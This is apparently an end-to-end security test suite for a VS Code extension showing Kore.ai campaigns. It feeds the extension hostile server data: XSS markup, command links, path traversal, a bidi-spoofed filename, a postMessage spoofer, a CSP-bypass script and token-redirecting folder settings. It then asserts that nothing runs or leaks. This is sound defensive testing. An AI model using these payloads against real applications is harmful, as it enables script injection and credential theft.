import { strict as assert } from 'node:assert';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Locator } from 'playwright-core';
import { sampleCampaigns } from '../../src/demo/sampleCampaigns.ts';
import type { SampleCampaign } from '../../src/demo/sampleTypes.ts';
import { startSampleServer, type SampleServer } from '../../src/demo/sampleServer.ts';
import { until } from '../support/until.ts';
import { attack, attackNewPages } from './outside.ts';
import { connectionTo, useOwnWorkbench, useWorkbench, writeWorkspaceSettings } from './session.ts';
import { startStranger, type Stranger } from './stranger.ts';
import type { Workbench } from './workbench.ts';

/** How often the spoof below has to speak before it says so to its server. */
const often = 10;

/** Shows to the page of a window's opener, and to all frames in it, what only the host may show; asks for /spoken after a while. */
const spoof = `<script>
  const content = { state: 'failed', message: 'This is a stranger speaking.', causes: [] };
  const saved = { connectionKey: '', campaignId: '', position: 1, sessionId: '', toSide: false };
  const speak = (window) => {
    window.postMessage({ type: 'show', content, saved }, '*');
    for (let index = 0; index < window.length; index++) speak(window[index]);
  };
  let times = 0;
  setInterval(() => {
    speak(opener);
    if (++times === ${often}) fetch('/spoken');
  }, 50);
</script>`;

/** A script that lets tests speak for the page of a webview: it keeps what VS Code gives that page once. */
const keepApi = `{
  let give;
  Object.defineProperty(globalThis, 'acquireVsCodeApi', {
    set: (value) => (give = value),
    get: () => () => (globalThis.api = give()),
  });
}`;

/** JSON; none of them is a message of the contact details' page. */
const wrongMessages = JSON.stringify([
  null,
  'copy',
  7,
  [],
  {},
  { type: null },
  { type: 'run', command: 'workbench.action.quit' },
  { type: 'copy' },
  { type: 'copy', what: '__proto__' },
  { type: 'copy', what: 'clientSecret' },
  { type: 'copy', what: ['phoneNumber'] },
  { type: ['copy'], what: 'phoneNumber' },
]);

/** All that the extension has logged in a VS Code. */
function logOf(tempDir: string): string {
  const files = readdirSync(join(tempDir, 'data/logs'), { encoding: 'utf8', recursive: true });
  return files
    .filter((file) => file.endsWith('Kore Campaigns.log'))
    .map((file) => readFileSync(join(tempDir, 'data/logs', file), 'utf8'))
    .join('');
}

/** A script that puts into its page what the policy of that page must stop, and tells what came of it. */
const intrude = (origin: string) => `(async () => {
  const broken = new Set();
  document.addEventListener('securitypolicyviolation', (event) => broken.add(event.effectiveDirective));
  const main = document.querySelector('main');
  const add = (tag, properties) => main.append(Object.assign(document.createElement(tag), properties));
  add('script', { textContent: 'document.title = "hacked"' });
  add('script', { src: '${origin}/script.js' });
  add('style', { textContent: '@import url(${origin}/style.css); main { color: red }' });
  add('iframe', { src: '${origin}/frame' });
  main.insertAdjacentHTML('beforeend', '<img src="${origin}/image" onerror="document.title = 1">');
  await fetch('${origin}/fetch').catch(() => undefined);
  const end = performance.now() + 5_000;
  while (broken.size < 6 && performance.now() < end) await new Promise(requestAnimationFrame);
  return { title: document.title, broken: [...broken].sort() };
})()`;

describe('an attack', () => {
  describe('by the words of a server', () => {
    let stranger: Stranger;
    before('start the stranger', async () => {
      stranger = await startStranger(spoof);
    });
    beforeEach('forget who came in another test', () => stranger.forget());
    after('stop the stranger', () => stranger.stop());

    const link = '[Click](command:workbench.action.toggleZenMode) $(flame)';
    const words = () => {
      const image = `<img src="${stranger.origin}/image" onerror="document.title='hacked'">`;
      const script = `<script>document.title='hacked'</script>`;
      return { image, script, all: `${image}${script}${link}<b>bold</b>` };
    };
    function hostileCampaign(): SampleCampaign {
      const { all } = words();
      return {
        ...(sampleCampaigns[0] as SampleCampaign),
        id: `cd-1/../..%2f${all}`,
        name: `Hostile ${link} ${all}`,
        description: all,
        status: link,
        dialingMode: link,
        connection: all,
        contactLists: [all],
        fixedContacts: [
          {
            phoneNumber: `1555 ${link} ${all}`,
            uniqueId: all,
            dialerOutcome: `${link} ${all}`,
            numberOfAttemptsSoFar: 1,
            botSessionId: `${all}\u202egnp.exe`,
            agentDispositionCodes: [all, link],
            botOutboundStatus: all,
            botOutboundStatusDetail: all,
          },
        ],
      };
    }
    const session = useWorkbench({
      connectionName: `Care ${link}`,
      server: () => ({ campaigns: [hostileCampaign()] }),
    });
    const campaign = /^Campaign, Hostile/u;

    /** No markup of a server is there, nothing of it was loaded, and none of it has run. */
    async function nothingHappened(where: Locator): Promise<void> {
      assert.equal(
        await where.locator('img, script, iframe, b, a[href^="command"], [class*=codicon-flame]').count(),
        0,
      );
      assert.deepEqual(stranger.visits, []);
      assert.doesNotMatch(await session.workbench.page.title(), /hacked/u);
    }

    /** Opens the details of the only contact, and returns their page. */
    async function openDetails(): Promise<Locator> {
      const { workbench } = session;
      await workbench.tree.expand(campaign);
      await workbench.tree.click(/^Contact 1, /u);
      await workbench.webview.getByRole('button', { name: 'Copy Session ID' }).waitFor();
      return workbench.webview.locator('main');
    }

    it('is shown as text in the side bar, and where the pointer rests', async () => {
      const { workbench } = session;
      const { page, tree } = workbench;
      await tree.expand(campaign);
      const names = (await tree.names()).join('\n');
      assert.ok(names.includes(words().image), names);
      assert.ok(!/\p{Bidi_Control}/u.test(names));
      await workbench.screenshot('attack-tree');
      await nothingHappened(page.locator('.part.sidebar .monaco-list-rows .label-name'));
      for (const row of [campaign, /^Contact 1, /u]) {
        await page.mouse.move(5, 5);
        await tree.row(row).hover();
        const hover = page.locator('.monaco-hover').filter({ hasText: words().script }).last();
        await hover.waitFor();
        await nothingHappened(hover);
      }
    });

    it('is shown as text in the details of a contact', async () => {
      const { workbench } = session;
      const main = await openDetails();
      const { image, script, all } = words();
      const shown = await main.innerText();
      assert.ok(shown.split(image).length > 8 && shown.includes(script), shown);
      assert.doesNotMatch(shown, /\p{Bidi_Control}/u);
      await workbench.screenshot('attack-details');
      await nothingHappened(main);
      const copied = await workbench.copied(() =>
        workbench.webview.getByRole('button', { name: 'Copy unique ID' }).click(),
      );
      assert.equal(copied, all);
    });

    it('finds no way past the policy of the page, even if it became markup', async () => {
      const main = await openDetails();
      const { title, broken } = await attack<{ title: string; broken: string[] }>(
        main,
        intrude(stranger.origin),
      );
      assert.equal(title, 'Contact Details');
      const directives = [
        'connect-src',
        'frame-src',
        'img-src',
        'script-src-attr',
        'script-src-elem',
        'style-src-elem',
      ];
      assert.deepEqual(broken, directives);
      assert.deepEqual(stranger.visits, []);
    });

    it('is shown as text in a message, and in the details of a contact that cannot be had', async () => {
      const { workbench, server } = session;
      const { tree } = workbench;
      const said = { status: 400, body: { message: `${link} ${words().image}` } };
      await openDetails();
      server.intercept(({ query }) => query === 'view=contacts', said, Infinity);
      await workbench.runCommand('Kore Campaigns: Refresh Campaigns');
      await tree.row(/^Kore\.ai did not accept the request/u).waitFor();
      await tree.openMenu(campaign);
      await workbench.pickFromMenu('Copy Session IDs');
      const message = workbench.notification(/Not all contacts/u);
      await message.waitFor();
      assert.match(await message.innerText(), /\[Click\] \(command:/u);
      await workbench.screenshot('attack-message');
      await nothingHappened(message.locator('.notification-list-item-message'));

      await workbench.reload();
      const main = workbench.webview.locator('main');
      await workbench.webview.getByRole('button', { name: 'Try Again' }).waitFor();
      assert.ok((await main.innerText()).includes(words().image));
      await nothingHappened(main);
    });

    it('by a page that opens the window and speaks to the frames in it is not heard', async () => {
      const { page } = session.workbench;
      const main = await openDetails();
      const popup = page.waitForEvent('popup');
      await attack(page.locator('body'), `void window.open('${stranger.origin}/opened')`);
      const other = await popup;
      await until('the stranger to have spoken often', () =>
        stranger.visits.some(({ url }) => url === '/spoken'),
      );
      await page.bringToFront();
      const text = await main.innerText();
      await other.close();
      assert.doesNotMatch(text, /stranger speaking/u);
    });

    it('is shown as text where icons are drawn: in quick picks and in the status bar', async () => {
      const { workbench, server } = session;
      const { quickInput, page, tree } = workbench;
      await tree.openMenu(campaign);
      await workbench.pickFromMenu('Find Contact…');
      await quickInput.type('1555');
      const rows = quickInput.widget.locator('.monaco-list-row');
      await rows.filter({ hasText: 'Search all contacts of' }).click();
      const hit = rows.filter({ hasText: '1555' });
      await hit.first().waitFor();
      await workbench.screenshot('attack-quick-pick');
      await nothingHappened(quickInput.widget);
      await quickInput.cancel();
      await workbench.runCommand('Kore Campaigns: Forget Client Secret…');
      await workbench.answerDialog('Forget');
      await workbench.status(/is forgotten/u).waitFor();
      await nothingHappened(page.locator('.statusbar'));
      // Other tests sign in with the same one.
      await workbench.signIn(server.credentials.clientSecret);
      await tree.row(campaign).waitFor();
    });
  });

  describe('by its own page', () => {
    const session = useWorkbench();

    it('with messages of a wrong shape comes to nothing', async () => {
      const { workbench, vscode } = session;
      const { page } = workbench;
      const script = await attackNewPages(page, keepApi);
      await workbench.reload();
      await workbench.openView('Kore Campaigns');
      await workbench.tree.expand(/^Campaign, Smoke test/u);
      await workbench.tree.click(/^Contact 1, /u);
      await workbench.webview.getByRole('button', { name: 'Copy phone number' }).waitFor();
      await script.dispose();
      await workbench.writeClipboard('as it was');
      const main = workbench.webview.locator('main');
      await attack(main, `${wrongMessages}.forEach((one) => api.postMessage(one))`);
      const count = (JSON.parse(wrongMessages) as unknown[]).length;
      const ignored = () => logOf(vscode.tempDir).split('its page sent an unknown message').length - 1;
      await until('all messages to be ignored', () => ignored() === count);
      assert.equal(await workbench.readClipboard(), 'as it was');
      // Whoever speaks properly is heard all the same.
      await attack(main, `api.postMessage({ type: 'copy', what: 'json' })`);
      await until('the clipboard to be filled', async () =>
        /phoneNumber/u.test(await workbench.readClipboard()),
      );
    });
  });

  describe('by a browser on the sample server', () => {
    const session = useWorkbench({ connection: 'none' });
    let stranger: Stranger;
    before('start the stranger', async () => {
      stranger = await startStranger();
    });
    after('stop the stranger', () => stranger.stop());

    it('is refused from a page of another site, and as a page', async () => {
      const { server } = session;
      const tab = await session.workbench.page.context().newPage();
      const statuses: number[] = [];
      tab.on('response', (response) => {
        if (response.url().startsWith(server.origin)) statuses.push(response.status());
      });
      await tab.goto(stranger.origin);
      const url = `${server.origin}/campaign/api/v2/public/st-1/campaign/getAllCampaignDetails`;
      const read = await attack<unknown[]>(
        tab.locator('html'),
        `Promise.all([
          fetch('${server.origin}/'),
          fetch('${url}', { method: 'POST' }),
          fetch('${url}', { method: 'POST', headers: { auth: 'x', 'Content-Type': 'application/json' }, body: '{}' }),
          fetch('${url}', { method: 'POST', mode: 'no-cors' }),
        ].map((asked) => asked.then((answer) => answer.text(), () => 'failed')))`,
      );
      assert.deepEqual(read, ['failed', 'failed', 'failed', '']);
      await tab.goto(server.origin);
      assert.match(await tab.locator('body').innerText(), /answers no browser pages/u);
      await tab.close();
      assert.ok(statuses.length >= 2 && statuses.every((status) => status === 403), statuses.join());
      assert.deepEqual(server.seen, []);
    });
  });

  describe('by the settings of a folder', () => {
    let stranger: Stranger;
    beforeEach('start a stranger', async () => {
      stranger = await startStranger();
    });
    afterEach('stop the stranger', () => stranger.stop());

    const campaigns = ({ tree }: Workbench) => tree.row(/^Campaign, Black Friday/u);
    const notSignedIn = ({ tree }: Workbench) => tree.row(/^Not signed in/u);
    /** Adds a connection like that of the server, to the stranger. */
    const redirect = (workspace: string, server: SampleServer) =>
      writeWorkspaceSettings(workspace, {
        'koreCampaigns.connections': [{ ...connectionTo(server), host: stranger.origin }],
      });

    /** The connection of the folder is shown beside the person's own, and goes again. */
    async function getsNothing(workbench: Workbench, workspace: string): Promise<void> {
      await notSignedIn(workbench).waitFor();
      await workbench.screenshot('attack-by-folder');
      await workbench.runCommand('Kore Campaigns: Refresh Campaigns');
      await notSignedIn(workbench).waitFor();
      await campaigns(workbench).waitFor();
      assert.deepEqual(stranger.visits, []);
      writeWorkspaceSettings(workspace, {});
      await notSignedIn(workbench).waitFor({ state: 'detached' });
      await campaigns(workbench).waitFor();
      assert.deepEqual(stranger.visits, []);
    }

    describe('that is trusted', () => {
      const session = useWorkbench();

      it('gets no token to another host', async () => {
        const { workbench, workspace, server } = session;
        redirect(workspace, server);
        await getsNothing(workbench, workspace);
      });
    });

    describe('that is not trusted', () => {
      let server: SampleServer;
      const userSettings: Record<string, unknown> = {};
      before('start the server', async () => {
        server = await startSampleServer({ requestsPerMinute: Infinity });
        userSettings['koreCampaigns.connections'] = [connectionTo(server)];
      });
      after('stop the server', () => server.stop());
      const session = useOwnWorkbench({ userSettings, workspaceTrust: true });

      it('gets no token to another host, and none either once it is trusted', async () => {
        const { workbench, workspace } = session;
        await workbench.status(/Restricted Mode/u).waitFor();
        await workbench.openView('Kore Campaigns');
        await workbench.signIn(server.credentials.clientSecret);
        await campaigns(workbench).waitFor();
        redirect(workspace, server);
        await workbench.runCommand('Kore Campaigns: Refresh Campaigns');
        await campaigns(workbench).waitFor();
        assert.equal(await notSignedIn(workbench).count(), 0);
        await workbench.screenshot('attack-untrusted');
        await workbench.runCommand('Workspaces: Manage Workspace Trust');
        await workbench.page.getByRole('button', { name: 'Trust', exact: true }).first().click();
        await getsNothing(workbench, workspace);
      });
    });
  });
});
